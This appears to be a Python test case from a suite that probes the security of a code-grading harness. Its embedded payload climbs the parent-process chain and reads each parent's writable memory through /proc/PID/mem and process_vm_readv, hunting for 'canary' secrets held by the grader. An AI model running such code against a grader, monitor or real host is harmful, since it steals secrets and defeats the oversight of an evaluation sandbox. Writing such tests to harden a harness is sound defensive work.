"""Reads the memory of the processes above and beside it."""

from tests.attacks.attack import Attack
from tests.attacks.pieces import OUTPUT_SIZE_POINTS, SHOW
from tests.attacks.sources import OUTPUT_SIZE

ATTACK = Attack(
    wants="the secret from the grader's own memory",
    top=SHOW
    + """
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)

class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

def above():
    pid = os.getppid()
    while pid > 1:
        yield pid
        stat = open(f"/proc/{pid}/stat").read()
        pid = int(stat.rpartition(")")[2].split()[1])

def regions(pid):
    for line in open(f"/proc/{pid}/maps"):
        parts = line.split()
        start, end = (int(part, 16) for part in parts[0].split("-"))
        if parts[1].startswith("rw") and end - start < 1 << 26:
            yield start, end - start

def by_file(pid):
    found = b""
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for start, size in regions(pid):
            try:
                memory.seek(start)
                found += b" ".join(re.findall(b"canary-[0-9a-f]{32}", memory.read(size)))
            except OSError:
                continue
    return found

def by_vector(pid):
    found = b""
    for start, size in regions(pid):
        buffer = ctypes.create_string_buffer(size)
        ours, theirs = Vector(ctypes.addressof(buffer), size), Vector(start, size)
        libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
        found += b" ".join(re.findall(b"canary-[0-9a-f]{32}", buffer.raw))
    return found

try:
    pids = list(above())
except OSError as error:
    print(type(error).__name__)
    pids = [os.getppid(), 1, 2]
for pid in pids[:4]:
    show(by_file, pid)
    show(by_vector, pid)
""",
    solutions={"output_size": OUTPUT_SIZE},
    deserves=OUTPUT_SIZE_POINTS,
)
